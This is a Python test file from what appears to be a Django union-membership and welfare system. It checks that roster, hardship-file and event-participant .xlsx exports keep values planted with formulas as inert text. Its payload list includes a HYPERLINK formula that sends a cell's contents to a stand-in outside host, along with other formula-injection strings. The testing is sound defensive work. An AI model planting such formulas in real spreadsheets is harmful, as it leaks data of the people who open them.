"""Formula injection: every text field that reaches an .xlsx export, planted with a formula, comes out as
text (Excel and WPS would run ``=HYPERLINK(...)`` from a name or a note otherwise)."""

import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from openpyxl import load_workbook

from activities import services as activities
from activities.tests.factories import make_event
from members.models import Department, UnionGroup
from welfare.tests.factories import make_file

pytestmark = pytest.mark.django_db

PLANTED = ['=HYPERLINK("http://x.cn/"&E2)', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def _cells(response):
    book = load_workbook(io.BytesIO(b"".join(response) if response.streaming else response.content))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _assert_planted_values_are_text(response, planted):
    cells = _cells(response)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    values = {cell.value for cell in cells}
    assert set(planted) <= values  # kept as typed, only not run


def _plant_member(member, formula):
    member.name = formula
    member.phone = "+8613900001234"
    member.title, member.post, member.card_number, member.notes = "-职称", "@岗位", "=1", formula
    member.department = Department.objects.create(name="=部门()")
    member.union_group = UnionGroup.objects.create(name="+小组")
    member.save()


@pytest.mark.parametrize("formula", PLANTED)
def test_the_roster_export_keeps_every_text_field_text(formula, users, client):
    _plant_member(users["member"].member, formula)
    client.force_login(users["chair"])
    _assert_planted_values_are_text(
        client.get("/members/export.xlsx"), [formula, "+8613900001234", "-职称", "@岗位", "=1", "=部门()", "+小组"]
    )


def test_the_hardship_file_export_keeps_names_text(users, client):
    _plant_member(users["member"].member, PLANTED[0])
    make_file(member=users["member"].member)
    client.force_login(users["chair"])
    _assert_planted_values_are_text(client.get("/welfare/files/export/"), [PLANTED[0]])


def test_the_participant_export_keeps_title_place_and_names_text(users, client):
    event = make_event(title="=标题()", place="@地点", capacity=5)
    _plant_member(users["member"].member, PLANTED[0])
    activities.sign_up(event=event, member=users["member"].member)
    client.force_login(users["chair"])
    response = client.get(f"/activities/{event.pk}/participants.xlsx")
    _assert_planted_values_are_text(response, ["=标题()", "@地点", PLANTED[0], "=部门()", "+小组", "+8613900001234"])


def test_every_module_that_writes_a_workbook_goes_through_the_helper():
    """A new export that appends rows itself would bring formula injection back."""
    root = Path(settings.BASE_DIR)
    writers = [
        path
        for path in root.rglob("*.py")
        if not {".venv", "tests", "bench"} & set(path.relative_to(root).parts) and "Workbook(" in path.read_text()
    ]
    assert writers
    own_rows = re.compile(r"\b(sheet|ws|worksheet)\.(append|cell)\(")
    offenders = [str(path) for path in writers if own_rows.search(path.read_text())]
    assert offenders == []
